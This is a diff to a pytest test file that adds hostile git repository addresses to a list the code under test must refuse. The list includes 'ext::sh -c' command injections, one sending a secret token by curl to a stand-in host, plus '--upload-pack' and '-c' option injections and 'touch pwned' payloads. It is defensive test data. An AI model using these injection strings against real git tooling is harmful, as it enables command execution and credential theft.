@@ -15,6 +15,9 @@ SECRET = "s3cr3t-t0k3n"
     [
         "ext::sh -c 'touch pwned'",
         "fd::3",
+        f"ext::sh -c 'curl -H token:{SECRET} host.example'",
+        f"--upload-pack=env TOKEN={SECRET} git-upload-pack",
+        f"-c http.extraHeader={SECRET}",
         "--upload-pack=touch pwned",
         "-c core.sshCommand=x",
         "ftp://host.example/app.git",
@@ -57,6 +60,7 @@ def test_addresses_that_are_refused_before_anything_is_called(text, tmp_path):
     assert SECRET not in str(caught.value)
     assert "\0" not in str(caught.value)
     assert caught.value.remedy
+    assert caught.value.source.strip()
 
 
 @pytest.mark.parametrize(
